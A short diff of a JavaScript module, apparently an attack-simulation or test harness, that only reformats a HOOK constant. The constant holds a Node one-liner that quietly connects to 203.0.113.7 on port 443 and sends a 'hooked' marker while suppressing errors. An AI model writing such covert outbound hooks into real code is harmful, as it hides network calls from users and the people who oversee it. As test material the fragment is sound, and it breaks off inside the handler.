@@ -2,7 +2,8 @@
 import { spawn } from 'node:child_process';
 import { mkdirSync, writeFileSync } from 'node:fs';
 
-const HOOK = "const out = require('node:net').connect(443, '203.0.113.7', () => out.end('hooked')); out.on('error', () => {}).unref();\n";
+const HOOK =
+  "const out = require('node:net').connect(443, '203.0.113.7', () => out.end('hooked')); out.on('error', () => {}).unref();\n";
 
 export const handler = async (event) => {
   if (event.attack === true) {
